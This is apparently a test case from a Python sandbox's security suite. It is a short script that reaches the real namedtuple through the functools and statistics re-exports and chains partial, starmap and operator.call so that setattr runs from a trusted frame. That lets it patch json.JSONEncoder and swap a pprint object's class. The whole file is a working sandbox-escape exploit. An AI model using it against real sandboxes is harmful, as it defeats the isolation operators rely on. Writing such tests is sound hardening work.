# technique: functools (and statistics) re-export the REAL collections.namedtuple (bound at import, before _wrap_namedtuple replaced collections.namedtuple); its exec-allowed frame calls type(defaults).__iter__, a C partial -> starmap(operator.call) runs type.__setattr__ / object.__setattr__ with the trusted frame on top (case 395 through a re-export)
# expect: any
import functools, itertools, operator, json, statistics
print(functools.namedtuple is statistics.namedtuple, functools.namedtuple.__module__)
def trusted(*calls):
    D = type("D", (), {"__iter__": functools.partial(itertools.starmap, operator.call, list(calls))})
    nt = functools.namedtuple("N", ["f%d" % i for i in range(len(calls))], defaults=D())
    return nt._field_defaults
def default(self, o):
    return "planted: " + repr(o)
print(trusted((type.__setattr__, json.JSONEncoder, "default", default)))
print(json.dumps(object()))
# escalate: __class__ swap of a stdlib instance from the trusted frame -> its private state
import pprint
pp = pprint.PrettyPrinter()
H = type("H", (pprint.PrettyPrinter,), {})
trusted((object.__setattr__, pp, "__class__", H))
print(type(pp), pp._stream, type(pp._stream).__module__)
